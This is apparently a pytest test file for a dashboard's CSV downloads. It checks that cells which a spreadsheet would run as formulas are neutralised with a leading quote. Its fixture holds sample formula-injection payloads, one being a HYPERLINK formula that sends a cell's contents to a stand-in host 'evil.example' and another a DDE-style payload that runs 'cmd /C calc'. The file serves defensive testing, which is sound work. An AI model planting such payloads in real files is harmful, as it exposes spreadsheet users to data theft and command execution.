"""Downloads are safe to open (DESIGN §11): no cell of a CSV runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import dataclasses
import io

import pandas as pd
import pytest

from dashboard.app import create_app
from dashboard.data import build_data
from dashboard.downloads import csv_text, csv_text_cell
from tests.dashboard.conftest import fixed_source, make_snapshot, settings

HOSTILE = [
    # region, region name, year, value, status
    ("K-5001", '=HYPERLINK("https://evil.example/?"&A1;"Trondheim")', 2019, -3.5, None),
    ("+47", "@SUM(1+1)*cmd|' /C calc'!A0", 2020, -0.25, None),
    ("-1+1", "\tTab", 2021, float("nan"), "=1+1"),
    ("\r=2", "Vanlig navn", 2022, 1234.5, None),
]


@pytest.fixture()
def hostile_client(catalog):
    rows = pd.DataFrame(
        [{"region": r, "region_name": n, "year": y, "value": v, "status": s} for r, n, y, v, s in HOSTILE]
    ).astype({"year": "int64", "value": "float64"})
    snapshot = make_snapshot(catalog)
    snapshot = dataclasses.replace(snapshot, series={**snapshot.series, "utslipp": rows})
    return create_app(settings(), source=fixed_source(snapshot)).server.test_client(), snapshot


# Every CSV dialect: the query, its field separator, and how -3.5 is written.
DIALECT_QUERIES = [
    ("", ";", "-3,5"),
    ("?lang=en", ",", "-3.5"),
    ("?format=csv-no&lang=en", ";", "-3,5"),
    ("?format=csv-en", ",", "-3.5"),
]
QUERIES = [query for query, _, _ in DIALECT_QUERIES]


def _rows(body: bytes, delimiter: str = ";") -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8")), delimiter=delimiter))


def _delimiter(query: str) -> str:
    return next(d for q, d, _ in DIALECT_QUERIES if q == query)


@pytest.mark.parametrize("query", QUERIES)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_client, query):
    client, _ = hostile_client
    response = client.get(f"/data/utslipp.csv{query}")
    assert response.status_code == 200
    rows = _rows(response.get_data(), _delimiter(query))[1:]
    by_year = {row[2]: row for row in rows}
    assert by_year["2019"][:2] == ["K-5001", '\'=HYPERLINK("https://evil.example/?"&A1;"Trondheim")']
    assert by_year["2020"][:2] == ["'+47", "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert by_year["2021"][:2] == ["'-1+1", "'\tTab"] and by_year["2021"][4] == "'=1+1"
    assert by_year["2022"][:2] == ["'\r=2", "Vanlig navn"]
    text_cells = [cell for row in rows for i, cell in enumerate(row) if i in (0, 1, 4)]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text_cells)


@pytest.mark.parametrize(("query", "delimiter", "minus_three_and_a_half"), DIALECT_QUERIES)
def test_negative_numbers_stay_numbers(hostile_client, query, delimiter, minus_three_and_a_half):
    client, _ = hostile_client
    rows = _rows(client.get(f"/data/utslipp.csv{query}").get_data(), delimiter)[1:]
    values = {row[2]: row[3] for row in rows}
    decimal = minus_three_and_a_half[2]
    assert values == {
        "2019": minus_three_and_a_half,
        "2020": f"-0{decimal}25",
        "2021": "",
        "2022": f"1234{decimal}5",
    }


@pytest.mark.parametrize("query", QUERIES)
def test_the_bulk_csv_neutralises_formulas_too(hostile_client, query):
    client, _ = hostile_client
    response = client.get(f"/data/all.csv{query}")
    assert response.status_code == 200
    rows = [row for row in _rows(response.get_data(), _delimiter(query))[1:] if row[0] == "utslipp"]
    assert {row[4]: row[5] for row in rows}["2019"] == next(m for q, _, m in DIALECT_QUERIES if q == query)
    text_cells = [cell for row in rows for i, cell in enumerate(row) if i not in (4, 5)]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text_cells)


def test_the_static_export_writes_the_same_neutralised_text(hostile_client):
    # dashboard/export.py writes data/<id>.csv and <id>.en.csv through csv_text.
    _, snapshot = hostile_client
    data = build_data(snapshot)
    for lang in ("no", "en"):
        text = csv_text(data, "utslipp", lang)  # type: ignore[arg-type]
        assert "'=HYPERLINK" in text and ";=" not in text and ",=" not in text and "\n=" not in text


def test_only_text_that_starts_like_a_formula_changes():
    assert csv_text_cell("=1+1") == "'=1+1"
    assert csv_text_cell("Trondheim = by") == "Trondheim = by"
    assert csv_text_cell("K-5001") == "K-5001"
    assert csv_text_cell("..") == ".."
    assert csv_text_cell("") == ""
